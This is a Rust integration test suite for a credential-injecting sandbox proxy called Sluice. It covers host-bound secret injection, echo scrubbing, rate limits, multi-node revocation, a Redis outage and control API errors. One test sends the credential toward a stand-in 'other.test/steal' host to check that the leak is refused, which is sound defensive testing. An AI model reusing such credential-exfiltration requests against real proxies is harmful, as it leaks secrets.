@@ -1,0 +1,341 @@
+//! Sessions end to end through the real daemon: credential injection toward the bound host
+//! only, scrubbing of echoes, rate limits, revocation across two nodes sharing Redis,
+//! expiry, a Redis outage, and the control API's answers to bad input.
+
+#![expect(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    reason = "test helpers fail loudly"
+)]
+
+use std::net::SocketAddr;
+use std::path::PathBuf;
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+use tests::redis::RedisServer;
+use tests::sluice::{Options, Sluice};
+use tests::upstream::{self, RunningUpstream};
+use tests::{NetLab, TestCa, addrs};
+
+/// The real value: it must reach api.test and nothing else, and never the sandbox or a log.
+const SECRET: &str = "sk-live-8c1f0e7d2b9a4c6e8f1a3b5d7c9e0f21";
+
+struct World {
+    lab: NetLab,
+    _ca_file: tempfile::TempPath,
+    api: RunningUpstream,
+    other: RunningUpstream,
+}
+
+/// `api.test` (203.0.113.10) and `other.test` (198.51.100.10): HTTPS echo upstreams.
+fn world() -> World {
+    let lab = NetLab::new("ses").unwrap();
+    let ca = TestCa::new().unwrap();
+    let ca_file = ca.pem_file().unwrap();
+    let start = |host: &str, ip: std::net::Ipv4Addr| {
+        upstream::https(&ca)
+            .hostname(host)
+            .echo()
+            .start(&lab, SocketAddr::new(ip.into(), 443))
+            .unwrap()
+    };
+    let api = start("api.test", addrs::FAR_HOST);
+    let other = start("other.test", addrs::HOST_A);
+    World {
+        _ca_file: ca_file,
+        api,
+        other,
+        lab,
+    }
+}
+
+impl World {
+    /// A daemon trusting the test CA, resolving both hosts; `extra` is appended to its config.
+    fn sluice(&self, extra: &str) -> Sluice {
+        let ca_file: PathBuf = self._ca_file.to_path_buf();
+        Sluice::start(
+            &self.lab,
+            &Options {
+                extra_toml: format!("[upstream]\nextra_roots = [{ca_file:?}]\n{extra}"),
+                dns_hosts: vec![
+                    ("api.test".into(), "203.0.113.10".into()),
+                    ("other.test".into(), "198.51.100.10".into()),
+                ],
+            },
+        )
+        .unwrap()
+    }
+}
+
+/// `sluice session create … --json` with `SECRET` in `$SECRET`; returns (id, token).
+fn create(sluice: &Sluice, args: &[&str]) -> (String, String) {
+    let out = sluice
+        .command()
+        .args(["session", "create", "--json"])
+        .args(args)
+        .env("SECRET", SECRET)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    let created: Value = serde_json::from_slice(&out.stdout).unwrap();
+    (
+        created["session"]["id"].as_str().unwrap().to_owned(),
+        created["token"].as_str().unwrap().to_owned(),
+    )
+}
+
+/// curl in a sandbox of `session`, trusting the Sluice CA; returns stdout as text.
+fn curl(sluice: &Sluice, session: &str, args: &[&str]) -> String {
+    let ca = sluice.state_dir().join("ca.pem");
+    let mut argv = vec!["curl", "-sS", "--max-time", "10", "--cacert", ca.to_str().unwrap()];
+    argv.extend_from_slice(args);
+    let out = sluice.exec(&["--session", session], &argv).output().unwrap();
+    String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
+}
+
+fn assert_nowhere(haystack: &[u8], needle: &str, what: &str) {
+    assert!(
+        !haystack
+            .windows(needle.len())
+            .any(|w| w == needle.as_bytes()),
+        "{what} contains a secret in plaintext"
+    );
+}
+
+#[test]
+fn placeholders_are_swapped_only_toward_their_host_and_echoes_are_scrubbed() {
+    let w = world();
+    let sluice = w.sluice("");
+    let (id, token) = create(&sluice, &["--cred", "API_KEY=env:SECRET@api.test"]);
+
+    // Toward api.test: the upstream gets the real value; the sandbox sees only placeholders,
+    // in the echoed header and in the echoed body.
+    let out = curl(
+        &sluice,
+        &id,
+        &["-i", "-H", "Authorization: Bearer sluice_cred:API_KEY", "https://api.test/v1/models"],
+    );
+    assert!(out.starts_with("HTTP/2 200"), "{out}");
+    let sent = w.api.requests();
+    let auth = sent.last().unwrap().headers["authorization"].to_str().unwrap().to_owned();
+    assert_eq!(auth, format!("Bearer {SECRET}"), "the upstream gets the real value");
+    assert!(!out.contains(SECRET), "the sandbox never sees the value: {out}");
+    assert!(
+        out.contains("x-echoed-authorization: Bearer sluice_cred:API_KEY"),
+        "{out}"
+    );
+    assert!(out.contains("Bearer sluice_cred:API_KEY\"]"), "body echo scrubbed: {out}");
+
+    // Toward other.test: refused with a 403 naming the credential; nothing is sent there.
+    let refused = curl(
+        &sluice,
+        &id,
+        &["-i", "-H", "Authorization: Bearer sluice_cred:API_KEY", "https://other.test/steal"],
+    );
+    assert!(refused.starts_with("HTTP/2 403"), "{refused}");
+    assert!(refused.contains("API_KEY") && refused.contains("other.test"), "{refused}");
+    assert!(w.other.requests().is_empty(), "nothing reached other.test");
+    // In a body, too (JSON to the wrong host).
+    let body = curl(
+        &sluice,
+        &id,
+        &["-i", "-H", "content-type: application/json", "-d", "{\"key\":\"sluice_cred:API_KEY\"}", "https://other.test/steal"],
+    );
+    assert!(body.starts_with("HTTP/2 403"), "{body}");
+    assert!(w.other.requests().is_empty(), "nothing reached other.test");
+
+    let records = sluice.audit();
+    let injected = records
+        .iter()
+        .find(|r| r["kind"] == "request" && r["url"] == "https://api.test/v1/models")
+        .unwrap_or_else(|| panic!("{records:?}"));
+    assert_eq!(injected["credentials"], serde_json::json!(["API_KEY"]));
+    assert_eq!(injected["session"], id.as_str());
+    let refusals: Vec<&Value> = records
+        .iter()
+        .filter(|r| r["kind"] == "request" && r["decision"] == "deny")
+        .collect();
+    assert_eq!(refusals.len(), 2, "{refusals:?}");
+    assert!(refusals.iter().all(|r| r["reason"].as_str().unwrap().contains("API_KEY")));
+
+    // Neither the token nor the value is in the audit log, the daemon log, or the store file.
+    let audit = std::fs::read(sluice.state_dir().join("audit.jsonl")).unwrap();
+    let log = sluice.log(1);
+    let store = std::fs::read(sluice.state_dir().join("sessions.json")).unwrap();
+    for (what, bytes) in [("audit log", &audit[..]), ("daemon log", log.as_bytes()), ("sessions.json", &store[..])] {
+        assert_nowhere(bytes, SECRET, what);
+        assert_nowhere(bytes, &token, what);
+    }
+}
+
+#[test]
+fn the_61st_request_in_a_minute_gets_429_with_retry_after() {
+    let w = world();
+    let sluice = w.sluice("");
+    let (id, _) = create(&sluice, &["--rate", "api.test=60"]);
+    let url = "https://api.test/limited";
+    let mut args = vec!["-o", "/dev/null", "-w", "%{http_code} %header{retry-after}\\n"];
+    args.extend(std::iter::repeat_n(url, 61));
+    let out = curl(&sluice, &id, &args);
+    let codes: Vec<&str> = out.lines().collect();
+    assert_eq!(codes.len(), 61, "{out}");
+    assert!(codes[..60].iter().all(|c| c.starts_with("200")), "{out}");
+    let (status, retry) = codes[60].split_once(' ').unwrap();
+    assert_eq!(status, "429", "{out}");
+    let retry: u64 = retry.trim().parse().unwrap_or_else(|_| panic!("Retry-After: {out}"));
+    assert!((1..=60).contains(&retry), "{out}");
+    assert_eq!(w.api.requests().len(), 60, "the 61st never reached the host");
+}
+
+/// Two daemons sharing one Redis: "node B" uses other ports, cgroups and pins.
+fn two_nodes(w: &World, redis: &RedisServer) -> (Sluice, Sluice) {
+    let store = format!("[store]\nredis_url = {:?}\n", redis.url());
+    let a = w.sluice(&store);
+    let b = w.sluice(&format!(
+        "{store}[listen]\ntransparent_port = 15011\ndns_port = 15063\ncontrol = \"127.0.0.1:3001\"\nproxy = \"127.0.0.1:3129\"\n"
+    ));
+    (a, b)
+}
+
+/// A request through node B's explicit proxy with `token`; returns the HTTP status.
+fn via_proxy_b(b: &Sluice, token: &str) -> String {
+    let out = b
+        .node_command("curl")
+        .args(["-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "5"])
+        .args(["-x", "http://127.0.0.1:3129", "--proxy-user", &format!("sluice:{token}")])
+        .args(["--cacert", b.state_dir().join("ca.pem").to_str().unwrap()])
+        .arg("https://api.test/via-b")
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+#[test]
+fn revocation_on_one_node_reaches_another_within_a_second_and_redis_holds_no_secret() {
+    let w = world();
+    let redis = RedisServer::start().unwrap();
+    let (a, b) = two_nodes(&w, &redis);
+    let (id, token) = create(&a, &["--cred", "API_KEY=env:SECRET@api.test"]);
+    assert_eq!(via_proxy_b(&b, &token), "200", "node B knows node A's session");
+    let revoke = a.command().args(["session", "revoke", &id]).output().unwrap();
+    assert!(revoke.status.success(), "{revoke:?}");
+    let revoked_at = Instant::now();
+    let mut status = String::new();
+    while revoked_at.elapsed() < Duration::from_secs(3) {
+        status = via_proxy_b(&b, &token);
+        if status == "407" {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(25));
+    }
+    let took = revoked_at.elapsed();
+    eprintln!("revocation seen by node B after {took:?}");
+    assert_eq!(status, "407");
+    assert!(took < Duration::from_secs(1), "took {took:?}");
+
+    // An expired session is refused too.
+    let (_, short) = create(&a, &["--ttl", "2s"]);
+    assert_eq!(via_proxy_b(&b, &short), "200");
+    std::thread::sleep(Duration::from_millis(2500));
+    assert_eq!(via_proxy_b(&b, &short), "407", "expired");
+
+    let snapshot = redis.snapshot().unwrap();
+    assert!(snapshot.len() > 100, "the snapshot holds the keyspace");
+    assert_nowhere(&snapshot, SECRET, "the Redis keyspace");
+    assert_nowhere(&snapshot, &token, "the Redis keyspace");
+    for node in [&a, &b] {
+        assert_nowhere(node.log(1).as_bytes(), SECRET, "a daemon log");
+        assert_nowhere(node.log(1).as_bytes(), &token, "a daemon log");
+    }
+}
+
+#[test]
+fn a_redis_outage_keeps_cached_sessions_refuses_unknown_ones_and_loses_no_audit_record() {
+    let w = world();
+    let mut redis = RedisServer::start().unwrap();
+    let store = format!("[store]\nredis_url = {:?}\n", redis.url());
+    let sluice = w.sluice(&store);
+    let (known, _) = create(&sluice, &[]);
+    let (unseen, _) = create(&sluice, &[]);
+    let status = |session: &str, path: &str| {
+        curl(&sluice, session, &["-o", "/dev/null", "-w", "%{http_code}", &format!("https://api.test/{path}")])
+    };
+    assert_eq!(status(&known, "before"), "200");
+
+    redis.stop();
+    let mut during = 0;
+    for i in 0..5 {
+        assert_eq!(status(&known, &format!("during-{i}")), "200", "a cached session keeps working");
+        during += 1;
+    }
+    // Enrolling under a session the node has not seen needs the store: refused.
+    let refused = sluice
+        .exec(&["--session", &unseen], &["true"])
+        .output()
+        .unwrap();
+    assert!(!refused.status.success(), "{refused:?}");
+
+    redis.resume().unwrap();
+    // Every request record reaches the stream exactly once, the outage ones included.
+    let deadline = Instant::now() + Duration::from_secs(15);
+    let count = |prefix: &str| -> usize {
+        let dump = redis
+            .cli(&["XRANGE", "sluice:audit", "-", "+"])
+            .unwrap_or_default();
+        dump.matches(&format!("\"url\":\"https://api.test/{prefix}")).count()
+    };
+    while count("during-") < during && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    assert_eq!(count("during-"), during, "outage records replayed exactly once");
+    assert_eq!(count("before"), 1);
+}
+
+#[test]
+fn the_control_api_answers_bad_input_with_the_right_status() {
+    let w = world();
+    let sluice = w.sluice("");
+    let token = std::fs::read_to_string(sluice.state_dir().join("admin.token")).unwrap();
+    let call = |method: &str, path: &str, auth: Option<&str>, body: Option<&str>| {
+        let mut cmd = sluice.node_command("curl");
+        cmd.args(["-sS", "-X", method, "-w", "\n%{http_code}"]);
+        if let Some(auth) = auth {
+            cmd.args(["-H", &format!("Authorization: Bearer {}", auth.trim())]);
+        }
+        if let Some(body) = body {
+            cmd.args(["-H", "content-type: application/json", "--data-binary", body]);
+        }
+        let out = cmd.arg(format!("http://127.0.0.1:3000{path}")).output().unwrap();
+        let text = String::from_utf8_lossy(&out.stdout).into_owned();
+        let (body, status) = text.rsplit_once('\n').unwrap();
+        (status.to_owned(), body.to_owned())
+    };
+    let (status, body) = call("POST", "/v1/sessions", Some(&token), Some("{\"ttl_seconds\": \"soon\"}"));
+    assert_eq!(status, "400", "{body}");
+    assert!(body.contains("ttl_seconds"), "names the field: {body}");
+    let (status, body) = call(
+        "POST",
+        "/v1/sessions",
+        Some(&token),
+        Some("{\"credentials\": [{\"name\": \"K\", \"value\": \"v\", \"hosts\": []}]}"),
+    );
+    assert_eq!(status, "400", "{body}");
+    assert!(body.contains("credentials[0].hosts"), "{body}");
+    assert!(!body.contains("\"v\""), "never echoes a value: {body}");
+    assert_eq!(call("GET", "/v1/sessions", None, None).0, "401");
+    assert_eq!(call("GET", "/v1/sessions", Some("sluice_adm_wrong"), None).0, "401");
+    let (status, body) = call("GET", "/v1/sessions/ses_nosuchsession", Some(&token), None);
+    assert_eq!(status, "404", "{body}");
+    let big = format!("{{\"labels\": {{\"x\": \"{}\"}}}}", "a".repeat(100_000));
+    assert_eq!(call("POST", "/v1/sessions", Some(&token), Some(&big)).0, "413");
+    assert_eq!(call("GET", "/v1/health", None, None).0, "200", "health needs no token");
+    // The OpenAPI document lists every path this test used.
+    let (status, doc) = call("GET", "/v1/openapi.json", Some(&token), None);
+    assert_eq!(status, "200");
+    let doc: Value = serde_json::from_str(&doc).unwrap();
+    for path in ["/v1/sessions", "/v1/sessions/{id}", "/v1/health", "/v1/audit"] {
+        assert!(doc["paths"].get(path).is_some(), "{path} documented");
+    }
+}
